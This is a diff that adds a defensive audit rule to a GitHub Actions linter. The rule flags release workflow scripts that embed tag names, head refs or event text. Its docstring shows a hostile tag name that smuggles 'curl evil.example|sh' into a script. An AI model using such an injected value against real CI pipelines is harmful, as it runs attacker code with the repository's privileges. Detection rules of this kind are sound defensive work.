@@ -1,0 +1,51 @@
+"""The name of a tag, or what a stranger writes, becomes a part of a script.
+
+## What it does
+No `run` of a release may hold `${{ github.ref_name }}`, `github.head_ref` or a text of `github.event`.
+
+## Why
+A tag may be named `v1.0.0$(curl evil.example|sh)`: git allows that.
+
+## Example
+```yaml
+- run: gh release create ${{ github.ref_name }}
+```
+
+## Source
+[Script injections](https://docs.github.com/en/actions/concepts/security/script-injections), [zizmor: template-injection](https://docs.zizmor.sh/audits/#template-injection)
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from lockstep.model import Finding, Level
+from lockstep.workflow.audit import Audit
+from lockstep.workflow.expression import embedded, references
+
+LEVEL = Level.ERROR
+SINCE = "0.1.0"
+
+
+_HOSTILE = {("github", "ref_name"), ("github", "ref"), ("github", "head_ref"), ("github", "base_ref")}
+_NUMBERS = ("number", "id", "sha", "merged", "draft", "prerelease", "action", "size")
+
+
+def check(audit: Audit) -> Iterator[Finding]:
+    """Look at every script."""
+    for job, step in audit.steps:
+        for offset, one in embedded(step.run.text) if step.run is not None else ():
+            found = [
+                parts for parts in references(one) if parts in _HOSTILE or (parts[:2] == ("github", "event") and parts[-1] not in _NUMBERS and len(parts) > 2)
+            ]
+            if found and step.run is not None and audit.active(step):
+                line = step.run.text.count("\n", 0, offset)
+                name = ".".join(found[0])
+                yield audit.finding(
+                    rule="expression-in-script",
+                    level=LEVEL,
+                    place=step.at(step.run, line),
+                    message=f"{job.id} writes {name} into a script",
+                    help="give it by `env`, and use the variable in quotes",
+                    symbol=job.id,
+                )
